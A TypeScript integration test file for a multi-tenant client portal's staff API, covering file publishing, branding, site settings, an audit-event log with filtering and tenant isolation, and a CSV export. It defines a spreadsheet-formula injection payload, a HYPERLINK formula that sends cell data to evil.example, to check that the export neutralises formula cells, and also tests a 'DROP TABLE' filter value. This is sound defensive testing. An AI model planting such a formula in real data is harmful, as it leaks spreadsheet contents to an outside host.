import type {
  AuditEventList,
  PublishedFileCount,
  PublishedFileList,
  PublishedFilesResult,
  SiteList,
  StaffSite,
  Theme,
} from '@portico/contracts';
import { beforeAll, describe, expect, it } from 'vitest';
import { errorCode, useTestApi } from '../testing/api.ts';
import { expectStaffOnly, PDF_BYTES, uploadReferences } from '../testing/staff-access.ts';

const api = useTestApi();
let bakery: string;
let northwind: string;
let publishedId: string;
const EVIL_SITE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';

const events = (query = '', client = api.as('carol'), tenant = 'acme') =>
  client.get<AuditEventList>(`/t/${tenant}/user/api/staff/audit-events${query}`);
const csv = async (query = '') => {
  const { status, headers, body } = await api
    .as('carol')
    .bytes(`/t/acme/user/api/staff/audit-events.csv${query}`);
  return { status, headers, bytes: body, text: body.toString('utf8') };
};
/** RFC 4180, as a spreadsheet reads it: quoted cells, doubled quotes, CRLF between records. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += c;
    } else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return records;
};
const bobsCount = async () =>
  (
    await api
      .as('bob')
      .get<PublishedFileCount>(
        `/t/acme/file-management/api/files/published-files?count=true&siteId=${bakery}`,
      )
  ).body.count;

beforeAll(async () => {
  bakery = api.siteId('ACME-1001');
  northwind = api.siteId('ACME-1003');
});

describe('what carol does in the control panel reaches the clients at once', () => {
  it("carol publishes a PDF to bob's site: bob's published count goes up by one and he can list it", async () => {
    const before = await bobsCount();
    const [reference] = await uploadReferences(api.as('carol'), bakery, [
      { name: 'Year-end pack.pdf', bytes: PDF_BYTES('year end'), type: 'application/pdf' },
    ]);
    const published = await api
      .as('carol')
      .post<PublishedFilesResult>('/t/acme/file-management/api/staff/published-files', {
        siteId: bakery,
        files: [{ referenceNumber: reference, title: 'Year-end pack' }],
      });
    expect(published.status).toBe(201);
    publishedId = published.body.records[0]!.id;
    expect(await bobsCount()).toBe(before + 1);
    const list = await api
      .as('bob')
      .get<PublishedFileList>(
        `/t/acme/file-management/api/files/published-files?siteId=${bakery}&search=year-end`,
      );
    expect(list.body.records.map((r) => [r.id, r.title])).toEqual([[publishedId, 'Year-end pack']]);
  });

  it("carol changes Acme's primary colour: bob's theme shows it", async () => {
    const changed = await api.as('carol').patch('/t/acme/master-data/api/staff/branding', {
      primaryColor: 'AA3300',
    });
    expect(changed.status).toBe(200);
    const theme = await api.as('bob').get<Theme>('/t/acme/master-data/api/themes');
    expect(theme.body.primaryColor).toBe('AA3300');
  });

  it("carol turns off internalFilesDownload for bob's site: his settings show it off and the server refuses his download", async () => {
    const changed = await api
      .as('carol')
      .patch(`/t/acme/portal/api/staff/sites/${bakery}/file-area-settings`, { internalFilesDownload: false });
    expect(changed.status).toBe(200);
    const sites = await api.as('bob').get<SiteList>('/t/acme/portal/api/sites');
    expect(sites.body.records[0]?.fileAreaSettings.internalFilesDownload).toBe(false);
    const download = await api
      .as('bob')
      .get(`/t/acme/file-management/api/files/published-files/${publishedId}`);
    expect([download.status, errorCode(download.body)]).toEqual([403, 'settings.forbidden']);
  });

  it("carol adds alice's e-mail to an Acme site: alice's sites on acme show it", async () => {
    const added = await api.as('carol').post(`/t/acme/portal/api/staff/sites/${northwind}/members`, {
      email: 'alice@example.com',
    });
    expect(added.status).toBe(201);
    const sites = await api.as('alice').get<SiteList>('/t/acme/portal/api/sites');
    expect(sites.body.records.map((s) => s.id)).toContain(northwind);
  });

  it('carol creates a site whose name a spreadsheet would run as a formula', async () => {
    const created = await api.as('carol').post<StaffSite>('/t/acme/portal/api/staff/sites', {
      name: EVIL_SITE,
    });
    expect(created.status).toBe(201);
  });
});

describe('GET user/api/staff/audit-events', () => {
  it('lists those actions, newest first, with who did them, to which site and file', async () => {
    const { status, body } = await events('?limit=100');
    expect(status).toBe(200);
    const carol = { id: expect.any(String), name: 'Carol Chen', email: 'carol@acme.example' };
    const byAction = (action: string) => body.records.find((e) => e.action === action);
    expect(byAction('file.publish')).toMatchObject({
      actor: carol,
      site: { id: bakery, name: "Bob's Bakery Ltd" },
      file: { id: publishedId, title: 'Year-end pack', fileName: 'Year-end pack.pdf' },
    });
    expect(byAction('upload.receive')).toMatchObject({ actor: carol, site: { id: bakery } });
    expect(byAction('branding.update')).toMatchObject({
      actor: carol,
      site: null,
      detail: { changes: { primaryColor: { from: '1F4E79', to: 'AA3300' } } },
    });
    expect(byAction('settings.update')).toMatchObject({
      site: { id: bakery },
      detail: { scope: 'site', changes: { internalFilesDownload: { from: null, to: false } } },
    });
    expect(byAction('member.add')).toMatchObject({
      site: { id: northwind, name: 'Northwind Traders' },
      detail: { email: 'alice@example.com', newPerson: false },
    });
    expect(byAction('site.create')).toMatchObject({ site: { name: EVIL_SITE } });
    // bob's refused download left no trace; the newest event is the newest action.
    expect(body.records.filter((e) => e.action === 'file.download')).toEqual([]);
    expect(body.records[0]?.action).toBe('site.create');
    const ids = body.records.map((e) => Number(e.id));
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
  });

  it('filters by action, site, person and date range, and pages', async () => {
    const actions = async (query: string) => (await events(query)).body.records.map((e) => e.action);
    expect(await actions('?action=file.publish&action=member.add')).toEqual(['member.add', 'file.publish']);
    expect(await actions(`?siteId=${northwind}`)).toEqual(['member.add']);
    expect(await actions('?person=CAROL&action=branding.update')).toEqual(['branding.update']);
    expect(await actions('?person=bob')).toEqual([]);
    const today = new Date().toISOString().slice(0, 10);
    expect((await events(`?from=${today}&to=${today}`)).body.totalRecordCount).toBeGreaterThanOrEqual(6);
    expect(await actions('?to=2020-12-31')).toEqual([]);
    const carolId = (await events('?action=branding.update')).body.records[0]!.actor!.id;
    expect((await events(`?userId=${carolId}`)).body.totalRecordCount).toBe(
      (await events('?person=carol@acme.example')).body.totalRecordCount,
    );
    const all = await events('?limit=100&sortOrder=asc');
    const page = await events('?limit=2&offset=1&sortOrder=asc');
    expect(page.body.totalRecordCount).toBe(all.body.totalRecordCount);
    expect(page.body.records.map((e) => e.id)).toEqual(all.body.records.slice(1, 3).map((e) => e.id));
    for (const query of [
      '?from=2026-02-01&to=2026-01-01',
      '?action=DROP TABLE',
      '?userId=carol',
      '?limit=0',
    ]) {
      const answer = await events(query);
      expect([query, answer.status, errorCode(answer.body)]).toEqual([query, 400, 'request.invalid']);
    }
  });

  it('shows each firm only its own log', async () => {
    const globex = await events('?limit=100', api.as('dave'), 'globex');
    expect(globex.status).toBe(200);
    expect(globex.body.records.map((e) => e.action)).not.toContain('file.publish');
    expect(JSON.stringify(globex.body)).not.toContain('Bakery');
    const crossed = await events(`?siteId=${bakery}`, api.as('dave'), 'globex');
    expect(crossed.body).toEqual({ records: [], totalRecordCount: 0 });
  });

  it('refuses clients and other firms', async () => {
    await expectStaffOnly(api, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events` });
    await expectStaffOnly(api, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events.csv` });
  });
});

describe('GET user/api/staff/audit-events.csv', () => {
  it('exports the filtered log as an attachment, one quoted row per event', async () => {
    const { status, headers, bytes, text } = await csv(
      '?action=file.publish&action=branding.update&action=member.add',
    );
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-log acme \d{4}-\d{2}-\d{2}\.csv"/,
    );
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    // A UTF-8 byte-order mark, so that spreadsheets read names with accents right.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, ''));
    expect(header).toEqual([
      'occurredAt',
      'action',
      'personName',
      'personEmail',
      'siteName',
      'siteId',
      'fileTitle',
      'fileName',
      'fileId',
      'detail',
    ]);
    expect(rows.map((r) => r[1])).toEqual(['member.add', 'branding.update', 'file.publish']);
    expect(rows[2]!.slice(2, 10)).toEqual([
      'Carol Chen',
      'carol@acme.example',
      "Bob's Bakery Ltd",
      bakery,
      'Year-end pack',
      'Year-end pack.pdf',
      publishedId,
      expect.stringContaining('"referenceNumber":"UP-'),
    ]);
    expect(Date.parse(rows[0]![0]!)).not.toBeNaN();
  });

  it('neutralises cells that a spreadsheet would run as formulas, and doubles quotes', async () => {
    const { text } = await csv('?action=site.create');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
    const cells = parseCsv(text.replace(/^\uFEFF/, '')).flat();
    expect(cells).toContain(`'${EVIL_SITE}`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('exports every matching event, across as many batches as it takes', async () => {
    const total = (await events('?limit=1')).body.totalRecordCount;
    const rows = (await csv()).text.split('\r\n').length - 2;
    expect(rows).toBe(total);
    const { rows: inserted } = await api.db.query<{ n: number }>(
      `WITH e AS (INSERT INTO audit_events (tenant_code, action, detail)
                  SELECT 'acme', 'test.bulk', jsonb_build_object('n', i) FROM generate_series(1, 2500) i
                  RETURNING 1)
       SELECT count(*)::int AS n FROM e`,
    );
    expect(inserted[0]?.n).toBe(2500);
    const bulk = (await csv('?action=test.bulk')).text.split('\r\n').slice(1, -1);
    expect(bulk).toHaveLength(2500);
    expect(new Set(bulk.map((line) => line.match(/""n"":(\d+)/)?.[1])).size).toBe(2500);
  });

  it('answers a bad filter as a JSON error before any CSV', async () => {
    const { status, text } = await csv('?from=2026-02-01&to=2026-01-01');
    expect(status).toBe(400);
    expect(errorCode(JSON.parse(text))).toBe('request.invalid');
  });
});

describe('the API documentation of the staff routes', () => {
  it('documents every staff route with a staff tag, a summary, bearer security and its error body', async () => {
    const { body: doc } = await api.anonymous.get<{
      paths: Record<
        string,
        Record<string, { tags?: string[]; summary?: string; security?: unknown; responses: object }>
      >;
    }>('/docs/json');
    const staff = Object.entries(doc.paths)
      .filter(([path]) => path.includes('/api/staff/'))
      .flatMap(([path, operations]) =>
        Object.entries(operations)
          .filter(([method]) => method !== 'head')
          .map(([method, operation]) => ({ route: `${method.toUpperCase()} ${path}`, operation })),
      );
    expect(staff.map((s) => s.route).sort()).toEqual(
      [
        'GET /t/{tenant}/user/api/staff/menus/{audience}',
        'PUT /t/{tenant}/user/api/staff/menus/{audience}',
        'GET /t/{tenant}/user/api/staff/audit-events',
        'GET /t/{tenant}/user/api/staff/audit-events.csv',
        'GET /t/{tenant}/user/api/staff/mail',
        'GET /t/{tenant}/master-data/api/staff/branding',
        'PATCH /t/{tenant}/master-data/api/staff/branding',
        'GET /t/{tenant}/portal/api/staff/sites',
        'POST /t/{tenant}/portal/api/staff/sites',
        'GET /t/{tenant}/portal/api/staff/sites/{siteId}',
        'PATCH /t/{tenant}/portal/api/staff/sites/{siteId}',
        'GET /t/{tenant}/portal/api/staff/sites/{siteId}/members',
        'POST /t/{tenant}/portal/api/staff/sites/{siteId}/members',
        'DELETE /t/{tenant}/portal/api/staff/sites/{siteId}/members/{userId}',
        'GET /t/{tenant}/portal/api/staff/staff-members',
        'POST /t/{tenant}/portal/api/staff/staff-members',
        'POST /t/{tenant}/portal/api/staff/people/{userId}/invitation',
        'GET /t/{tenant}/portal/api/staff/submissions',
        'GET /t/{tenant}/portal/api/staff/submissions/{id}',
        'PUT /t/{tenant}/portal/api/staff/submissions/{id}/status',
        'GET /t/{tenant}/portal/api/staff/submissions/{id}/download',
        'GET /t/{tenant}/portal/api/staff/submissions/{id}/preview',
        'POST /t/{tenant}/portal/api/staff/submissions/zip',
        'POST /t/{tenant}/portal/api/staff/submissions/download-tickets',
        'GET /t/{tenant}/portal/api/staff/file-area-settings',
        'PATCH /t/{tenant}/portal/api/staff/file-area-settings',
        'GET /t/{tenant}/portal/api/staff/sites/{siteId}/file-area-settings',
        'PATCH /t/{tenant}/portal/api/staff/sites/{siteId}/file-area-settings',
        'DELETE /t/{tenant}/portal/api/staff/sites/{siteId}/file-area-settings',
        'POST /t/{tenant}/file-management/api/staff/published-files',
        'POST /t/{tenant}/file-management/api/staff/published-files/download-tickets',
        'DELETE /t/{tenant}/file-management/api/staff/published-files/{id}',
        'GET /t/{tenant}/file-management/api/staff/published-files/reads',
        'GET /t/{tenant}/file-management/api/staff/published-files/{id}/download',
        'GET /t/{tenant}/file-management/api/staff/published-files/{id}/preview',
        'GET /t/{tenant}/portal/api/staff/requests',
        'POST /t/{tenant}/portal/api/staff/requests',
        'GET /t/{tenant}/portal/api/staff/requests/{requestId}',
        'POST /t/{tenant}/portal/api/staff/requests/{requestId}/items/{itemId}/review',
        'POST /t/{tenant}/portal/api/staff/requests/{requestId}/cancel',
        'POST /t/{tenant}/portal/api/staff/requests/{requestId}/reminders',
        'GET /t/{tenant}/portal/api/staff/request-reminder-settings',
        'PUT /t/{tenant}/portal/api/staff/request-reminder-settings',
        'GET /t/{tenant}/portal/api/staff/request-templates',
        'POST /t/{tenant}/portal/api/staff/request-templates',
        'DELETE /t/{tenant}/portal/api/staff/request-templates/{templateId}',
        'POST /t/{tenant}/portal/api/staff/request-templates/{templateId}/apply',
        'GET /t/{tenant}/file-management/api/staff/quarantine',
        'DELETE /t/{tenant}/file-management/api/staff/quarantine/{id}',
        'GET /t/{tenant}/file-management/api/staff/scanner',
        'GET /t/{tenant}/file-management/api/staff/subscriptions',
        'GET /t/{tenant}/portal/api/staff/sign-in-policy',
        'PUT /t/{tenant}/portal/api/staff/sign-in-policy',
        'GET /t/{tenant}/portal/api/staff/people/{userId}/sign-ins',
        'POST /t/{tenant}/portal/api/staff/people/{userId}/end-sessions',
      ].sort(),
    );
    for (const { route, operation } of staff) {
      expect([route, operation.tags?.[0]?.startsWith('staff: ')]).toEqual([route, true]);
      expect([route, operation.summary?.length]).toEqual([route, expect.any(Number)]);
      expect([route, operation.security]).toEqual([route, [{ bearer: [] }]]);
      expect([route, Object.keys(operation.responses)]).toEqual([
        route,
        expect.arrayContaining(['4XX', '5XX']),
      ]);
    }
  });
});
